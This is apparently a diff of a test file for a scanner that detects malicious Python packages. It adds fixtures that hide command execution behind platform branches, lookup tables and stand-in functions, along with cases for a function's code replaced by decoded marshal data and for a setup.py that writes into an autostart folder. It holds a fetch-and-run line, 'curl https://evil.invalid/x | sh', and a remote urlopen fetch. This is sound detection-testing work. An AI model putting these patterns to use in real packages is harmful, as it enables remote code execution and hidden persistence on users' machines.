@@ -1,4 +1,4 @@
-import { found } from '../support/found.js';
+import { found, foundIn } from '../support/found.js';
 
 const FETCH = '"curl https://evil.invalid/x | sh"';
 
@@ -47,6 +47,96 @@ line = ${text}
 if os.name == "nt":
     line = "ver /a"
 subprocess.run(["sh", "-c", line])`,
+  ],
+  [
+    'a helper that starts one command after the other',
+    (text) => `
+import os
+def run(line):
+    os.system(line)
+run("ver /a")
+run(${text})
+run("ver /b")`,
+  ],
+  ['a loop over commands', (text) => `import os\nfor line in ("ver /a", ${text}):\n    os.system(line)`],
+  [
+    'a list that a branch chose',
+    (text) => `
+import os, subprocess
+if os.name == "posix":
+    words = ["sh", "-c", ${text}]
+else:
+    words = ["ver"]
+subprocess.run(words)`,
+  ],
+  [
+    'lists that a branch chose',
+    (text) => `
+import os, subprocess
+if os.name == "posix":
+    lines = [["sh", "-c", ${text}], ["ver"]]
+else:
+    lines = []
+for words in lines:
+    subprocess.run(words)`,
+  ],
+  [
+    'a table that a branch chose',
+    (text) => `
+import os
+if os.name == "posix":
+    table = {"line": ${text}}
+else:
+    table = {"line": "ver /a"}
+os.system(table["line"])`,
+  ],
+  [
+    'a table of lists by platform',
+    (text) =>
+      `import subprocess, sys\nsubprocess.run({"linux": ["sh", "-c", ${text}], "win32": ["ver"]}[sys.platform])`,
+  ],
+  [
+    'a function that a branch defined',
+    (text) => `
+import os
+if os.name == "posix":
+    def run():
+        os.system(${text})
+else:
+    def run():
+        pass
+run()`,
+  ],
+  [
+    'what a function stands in for',
+    (text) => `
+try:
+    from os import system
+except ImportError:
+    def system(line):
+        return 0
+system(${text})`,
+  ],
+  [
+    'a module that a class stands in for',
+    (text) => `
+try:
+    import os
+except ImportError:
+    class os:
+        system = staticmethod(print)
+os.system(${text})`,
+  ],
+  [
+    'a method by the name of the system',
+    (text) => `
+import os, platform
+class Run:
+    def Linux(self):
+        os.system(${text})
+    def Windows(self):
+        os.system("ver /a")
+getattr(Run(), platform.system(), print)()`,
   ],
 ];
 
@@ -176,4 +266,33 @@ import extra_parts`;
   const fetched = 'urllib.request.urlopen("https://evil.invalid/x").read()';
   expect(found(code(fetched))['remote-code-executed']).toBe('CRITICAL');
   expect(found(code('b"VALUE = 1"'))['remote-code-executed']).toBeUndefined();
+});
+
+test('code that takes the place of the code of a function', () => {
+  const replaced = (code: string): string => `
+import base64, marshal
+def started():
+    pass
+started.__code__ = ${code}
+started()`;
+  const packed = 'marshal.loads(base64.b85decode("c${NkU{GMV"))';
+  expect(found(replaced(packed))['decoded-code-executed']).toBe('CRITICAL');
+  expect(found(replaced('print.__code__'))['decoded-code-executed']).toBeUndefined();
+});
+
+test('a file that a build places where the system starts it', () => {
+  const placed = (folder: string): string => `
+import os
+from setuptools import setup
+if os.name == "posix":
+    files = [(os.path.join(os.path.expanduser("~"), ".config", "${folder}"), ["a.desktop"])]
+else:
+    files = []
+setup(name="pkg", packages=["pkg"], data_files=files)`;
+  const severity = (folder: string): unknown =>
+    foundIn({ 'fixture-1.0/setup.py': placed(folder), 'fixture-1.0/pkg/__init__.py': '' })[
+      'autostart-written'
+    ];
+  expect(severity('autostart')).toBe('CRITICAL');
+  expect(severity('fixture')).toBeUndefined();
 });
